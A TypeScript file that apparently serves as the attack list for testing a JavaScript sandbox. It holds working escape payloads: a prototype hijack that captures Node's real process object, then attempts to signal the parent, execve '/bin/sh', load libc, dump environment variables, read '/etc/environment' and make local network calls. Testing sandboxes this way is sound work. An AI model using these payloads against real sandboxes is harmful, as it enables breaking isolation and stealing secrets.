import type { Attack } from './attack.ts';

/** Takes Node's own process object out of an event of its; `real` is it from then on. */
export const takeProcess = `const { EventEmitter } = await import('node:events');
  const emit = EventEmitter.prototype.emit;
  let real;
  EventEmitter.prototype.emit = function (...args) {
    if ('ppid' in this) real = this;
    return args[0] === 'uncaughtException' || emit.apply(this, args);
  };
  setTimeout(() => { throw new Error('bait'); });
  while (!real) await new Promise((resolve) => setTimeout(resolve, 5));
  EventEmitter.prototype.emit = emit;`;

/** What Node's own process object is asked for, once it is in the wrong hands. */
const withProcess: Record<string, { kind: Attack['kind']; code(markerFile: string): string }> = {
  'kill its parent': {
    kind: 'processes',
    code: () =>
      "for (const signal of ['SIGUSR2', 'SIGHUP', 12]) for (const name of ['kill', '_kill']) try { real[name](real.ppid, signal); return 'OUT ' + name; } catch {}",
  },
  'debug its parent': {
    kind: 'processes',
    code: () => "try { real._debugProcess(real.ppid); return 'OUT'; } catch {}",
  },
  'become another program': {
    kind: 'processes',
    code: () => "try { real.execve('/bin/sh', ['sh', '-c', 'true'], {}); return 'OUT'; } catch {}",
  },
  'load an addon': {
    kind: 'processes',
    code: () =>
      "try { real.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6'); return 'OUT'; } catch {}",
  },
  'find built-in modules': {
    kind: 'built-in modules',
    code: () =>
      "for (const name of ['getBuiltinModule', 'binding', '_linkedBinding']) try { if (real[name]('fs')) return 'OUT ' + name; } catch {}",
  },
  'find the main module': {
    kind: 'built-in modules',
    code: () => "if (real.mainModule || real._preload_modules?.length) return 'OUT';",
  },
  'see its environment': {
    kind: 'environment',
    code: () =>
      'return JSON.stringify([real.env, real.title, real.execPath.length, real.allowedNodeEnvironmentFlags.size]);',
  },
  'write a report': {
    kind: 'links',
    code: (markerFile) =>
      `try { real.report.writeReport(${JSON.stringify(markerFile)}); return 'OUT'; } catch {} try { return JSON.stringify(real.report.getReport()); } catch {}`,
  },
  'read an environment file': {
    kind: 'links',
    code: () => "try { real.loadEnvFile('/etc/environment'); return 'OUT'; } catch {}",
  },
  'open a file by the class of its output': {
    kind: 'links',
    code: (markerFile) =>
      `for (const stream of [real.stdout, real.stderr]) for (let maker = stream; maker; maker = Object.getPrototypeOf(maker))
         try { const made = new maker.constructor(${JSON.stringify(markerFile)}); made.on?.('error', () => {}); made.write?.('x'); made.end?.(); } catch {}
       await new Promise((resolve) => setTimeout(resolve, 50));`,
  },
  'connect by the class of its output': {
    kind: 'network',
    code: () =>
      "for (const stream of [real.stdout, real.stderr]) for (let maker = stream; maker; maker = Object.getPrototypeOf(maker)) try { const made = new maker.constructor(); made.on?.('error', () => {}); made.connect(PORT, '127.0.0.1'); } catch {} await new Promise((resolve) => setTimeout(resolve, 50));",
  },
  'find what is open': {
    kind: 'channel',
    code: () =>
      "for (const name of ['_getActiveHandles', '_getActiveRequests']) { try { const all = real[name](); if (all.length > 0) return 'OUT ' + name + ' ' + all.map((one) => one?.constructor?.name); } catch {} }",
  },
  'send by a channel of Node’s': {
    kind: 'channel',
    code: () =>
      "for (const name of ['send', '_send', '_disconnect', 'disconnect']) try { real[name]({ cmd: 'NODE_HANDLE_ACK' }); return 'OUT ' + name; } catch {} if (real.channel) return 'OUT channel';",
  },
  'change who it is': {
    kind: 'processes',
    code: () =>
      "for (const name of ['setuid', 'seteuid', 'setgid', 'setegid', 'setgroups', 'initgroups', 'umask', 'chdir']) if (typeof real[name] === 'function') return 'OUT ' + name;",
  },
};

/** Ways to other processes, the network and the environment. */
export const reachAttacks: readonly Attack[] = [
  ...Object.entries(withProcess).map(
    ([name, { kind, code }]): Attack => ({
      kind,
      name: `${name}, with Node’s own process object`,
      alone: true,
      body: ({ markerFile, tcpPort }) =>
        `${takeProcess}\n${code(markerFile).replaceAll('PORT', String(tcpPort))}\nreturn 'nothing';`,
    }),
  ),
  {
    kind: 'network',
    name: 'fetch and its like',
    body: ({ tcpPort }) =>
      `const at = 'http://127.0.0.1:${tcpPort}/'; const got = [];
       for (const go of [() => fetch(at), () => new WebSocket(at.replace('http', 'ws')), () => new EventSource(at), () => new Request(at), () => new XMLHttpRequest(), () => navigator.sendBeacon(at)])
         try { await go(); got.push(go); } catch {}
       await new Promise((resolve) => setTimeout(resolve, 20));
       return got.length > 0 ? 'OUT ' + got : 'nothing';`,
  },
  {
    kind: 'network',
    name: 'a module from the network',
    body: ({ tcpPort }) => `return 'OUT ' + await import('http://127.0.0.1:${tcpPort}/x.mjs');`,
  },
  {
    kind: 'network',
    name: 'a worker or a shared one',
    body: () =>
      "return 'OUT ' + new (globalThis.Worker ?? globalThis.SharedWorker)('data:text/javascript,0');",
  },
  {
    kind: 'processes',
    name: 'signals by the stand-in',
    body: () => "process.kill(process.ppid ?? 1, 'SIGUSR2'); return 'OUT';",
  },
  {
    kind: 'environment',
    name: 'the environment, the arguments and the folder of the stand-in',
    body: () =>
      'return JSON.stringify([process.env, process.argv, process.execArgv, process.cwd(), process.config]);',
  },
  {
    kind: 'environment',
    name: 'storage of a browser',
    body: () =>
      "for (const name of ['localStorage', 'sessionStorage', 'Storage', 'indexedDB', 'caches']) if (typeof globalThis[name] !== 'undefined') return 'OUT ' + name; return 'nothing';",
  },
];
